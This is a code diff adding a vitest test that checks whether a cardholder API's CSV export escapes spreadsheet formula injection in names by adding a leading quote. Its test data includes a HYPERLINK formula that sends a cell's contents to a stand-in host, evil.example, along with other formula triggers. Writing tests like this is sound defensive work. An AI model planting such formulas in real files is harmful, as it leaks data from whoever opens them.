@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync'
 import { and, count, eq } from 'drizzle-orm'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { auditLog, cardholders, merchants } from '../../db/schema'
@@ -215,5 +216,25 @@ describe('validation (spec §5)', () => {
       'cardholder.update',
       'cardholder.delete',
     ])
+  })
+})
+
+describe('export (issue 17 item 6: CSV formula injection)', () => {
+  it('exports names a spreadsheet would run as formulas as text, with a leading quote', async () => {
+    const names = ['=HYPERLINK("http://evil.example/?q="&A1,"x")', '+1+2', '-3+4', '@SUM(A1)']
+    for (const [i, firstName] of names.entries()) {
+      const res = await save(person({ firstName, email: `formula${i}@example.com` }))
+      expect(res.body.code).toBe(0)
+    }
+    const csv = await api.fetch(
+      '/cardholder/export',
+      { format: 'csv', filters: { email: 'formula' } },
+      { token: merchantUser },
+    )
+    expect(csv.status).toBe(200)
+    const [header, ...records] = parse(await csv.text(), { bom: true }) as string[][]
+    const first = header.indexOf('First name')
+    expect(first).toBeGreaterThanOrEqual(0)
+    expect(records.map((r) => r[first]).sort()).toEqual(names.map((n) => `'${n}`).sort())
   })
 })
